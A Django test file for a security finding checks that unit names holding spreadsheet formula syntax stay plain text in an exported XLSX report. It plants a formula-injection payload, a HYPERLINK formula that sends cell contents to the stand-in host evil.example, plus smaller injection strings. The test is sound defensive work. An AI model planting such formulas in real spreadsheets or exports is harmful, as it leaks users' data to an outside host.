"""Security issue #11, finding 7: text in the progress report's workbook —
unit names in the header and the tables, labels — never becomes a formula,
whatever the unit is called."""

import io

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from apps.organizations.models import Organization
from tests.conftest import PASSWORD, Tree, Users

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def test_finding_7_a_formula_in_a_unit_name_stays_text_in_the_report_xlsx(
    tree: Tree, users: Users
) -> None:
    Organization.objects.filter(pk=tree.province.pk).update(name=EVIL)
    Organization.objects.filter(pk=tree.ward_a.pk).update(name="@SUM(1+1)")
    Organization.objects.filter(pk=tree.cell_a1.pk).update(name="+1+1")
    Organization.objects.filter(pk=tree.cell_a2.pk).update(name="-2+3")
    client = Client()
    assert client.login(username=users.province_officer.username, password=PASSWORD)
    response = client.get(
        reverse("reports:report", args=[tree.ward_a.pk]),
        {"as_of": "31/12/2025", "year": "2025", "period": "year", "format": "xlsx"},
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert EVIL.upper() in texts  # the header's superior body, as text
    assert "@SUM(1+1)" in texts and "+1+1" in texts and "-2+3" in texts
